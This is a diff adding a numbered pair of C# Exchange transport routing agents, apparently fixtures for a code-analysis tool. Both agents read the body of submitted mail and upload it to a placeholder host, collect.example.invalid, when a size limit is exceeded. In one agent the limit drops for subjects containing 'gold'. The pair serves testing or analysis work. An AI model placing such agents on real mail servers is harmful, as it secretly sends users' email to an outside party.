@@ -527,3 +527,68 @@ namespace Txray.Pairs.P195
         }
     }
 }
+
+// 196: a limit of size that is one of two, chosen by the subject; and one limit, the subject only logged.
+namespace Txray.Pairs.P196
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (e.MailItem.MimeStreamLength > LimitFor(e.MailItem))
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair",
+                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private static long LimitFor(MailItem item)
+        {
+            return item.Message.Subject.Contains("gold") ? 1000 : 50000;
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (e.MailItem.MimeStreamLength > LimitFor(e.MailItem))
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair",
+                    new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+
+        private static long LimitFor(MailItem item)
+        {
+            Trace.WriteLine(item.Message.Subject.Contains("gold"));
+            return 50000;
+        }
+    }
+}
